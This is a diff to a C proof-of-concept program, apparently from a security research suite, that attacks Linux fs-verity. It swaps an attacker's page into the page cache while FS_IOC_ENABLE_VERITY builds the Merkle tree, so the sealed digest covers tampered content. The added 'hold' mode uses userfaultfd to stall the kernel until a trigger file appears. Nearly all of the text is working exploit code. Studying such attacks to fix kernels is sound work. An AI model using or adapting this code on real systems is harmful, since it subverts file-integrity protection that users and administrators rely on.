@@ -1,19 +1,22 @@
 /* SPDX-License-Identifier: GPL-2.0-or-later */
 
 /*
- * S15: stale_page FILE DEVICE [keep]
+ * S15: stale_page FILE DEVICE [keep|hold]
  *
  * Leaves FILE, a large unsealed copy of alice on the ext4 of DEVICE, with fs-verity, alice's digest
  * and a page of Eve's in the page cache: while FS_IOC_ENABLE_VERITY builds the Merkle tree and has
  * the page with alice's code behind it, the page is dropped, its block rewritten beneath the
  * mounted file system, the page read back (nobody verifies it yet), and the block restored
- * (keep: not restored).
+ * (keep: not restored). hold: the kernel waits for the argument of FS_IOC_ENABLE_VERITY, in memory that we serve, until
+ * there is FILE.go.
  */
 
 #include "attack.h"
 
 #include <linux/fiemap.h>
 #include <linux/fs.h>
+#include <linux/userfaultfd.h>
+#include <pthread.h>
 #include <sched.h>
 #include <time.h>
 
@@ -63,6 +66,46 @@ static int exchange(int fd, const uint8_t *map, off_t place)
 	return 0;
 }
 
+struct held {
+	struct fsverity_enable_arg *argument; /* a page that is not there */
+	int faults;
+	const char *path;
+};
+
+/* When the kernel asks for the argument: gives it when PATH.go is there. */
+static void *serve(void *data)
+{
+	static const struct fsverity_enable_arg argument __attribute__((aligned(PAGE))) = {
+		.version = 1, .hash_algorithm = FS_VERITY_HASH_ALG_SHA256, .block_size = PAGE};
+	const struct held *held = data;
+	struct uffdio_copy copy = {.dst = (uintptr_t)held->argument, .src = (uintptr_t)&argument, .len = PAGE};
+	struct uffd_msg message;
+	char go[4096];
+
+	need(read(held->faults, &message, sizeof(message)) == sizeof(message), "no fault");
+	printf("stale_page: held\n");
+	fflush(stdout);
+	snprintf(go, sizeof(go), "%s.go", held->path);
+	while (access(go, F_OK) < 0)
+		usleep(10000);
+	need(ioctl(held->faults, UFFDIO_COPY, &copy) == 0, "UFFDIO_COPY");
+	return NULL;
+}
+
+static int enable_held(int fd, const char *path)
+{
+	struct held held = {.path = path, .faults = (int)syscall(SYS_userfaultfd, O_CLOEXEC)};
+	struct uffdio_api api = {.api = UFFD_API};
+	pthread_t thread;
+
+	held.argument = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+	struct uffdio_register range = {{(uintptr_t)held.argument, PAGE}, UFFDIO_REGISTER_MODE_MISSING, 0};
+	need(held.faults >= 0 && held.argument != MAP_FAILED, "userfaultfd");
+	need(ioctl(held.faults, UFFDIO_API, &api) == 0 && ioctl(held.faults, UFFDIO_REGISTER, &range) == 0, "UFFDIO_REGISTER");
+	need(pthread_create(&thread, NULL, serve, &held) == 0, "pthread_create");
+	return ioctl(fd, FS_IOC_ENABLE_VERITY, held.argument);
+}
+
 int main(int argc, char **argv)
 {
 	static uint8_t alice[PAGE] __attribute__((aligned(PAGE)));
@@ -71,7 +114,8 @@ int main(int argc, char **argv)
 	struct stat st;
 	int status;
 
-	need(argc > 2, "usage: stale_page FILE DEVICE [keep]");
+	need(argc > 2, "usage: stale_page FILE DEVICE [keep|hold]");
+	const char *how = argc > 3 ? argv[3] : "";
 	int fd = open(argv[1], O_RDONLY), device = open(argv[2], O_RDWR | O_DIRECT);
 	need(fd >= 0 && device >= 0 && fstat(fd, &st) == 0, "open");
 	need(st.st_size > 4 * DISTANCE * PAGE, "the file is too short");
@@ -91,7 +135,7 @@ int main(int argc, char **argv)
 
 	pid_t child = fork();
 	if (child == 0)
-		_exit(enable_verity(fd) == 0 ? DONE : KERNEL_REFUSED);
+		_exit((strcmp(how, "hold") ? enable_verity(fd) : enable_held(fd, argv[1])) == 0 ? DONE : KERNEL_REFUSED);
 	struct timespec pause = {.tv_nsec = 200000};
 	while (!is_cached(map, (size_t)page / PAGE + DISTANCE)) {
 		need(waitpid(child, &status, WNOHANG) == 0, "too late");
@@ -100,7 +144,7 @@ int main(int argc, char **argv)
 	need(pwrite(device, eve, PAGE, (off_t)block) == PAGE, "write the device");
 	int evil = exchange(fd, map, place);
 	need(waitpid(child, &status, WNOHANG) == 0, "the tree was complete too early");
-	if (argc < 4 || strcmp(argv[3], "keep"))
+	if (strcmp(how, "keep"))
 		need(pwrite(device, alice, PAGE, (off_t)block) == PAGE, "restore the block");
 	need(evil, "the page read back is not Eve's");
 	need(waitpid(child, &status, 0) == child && WIFEXITED(status), "waitpid");
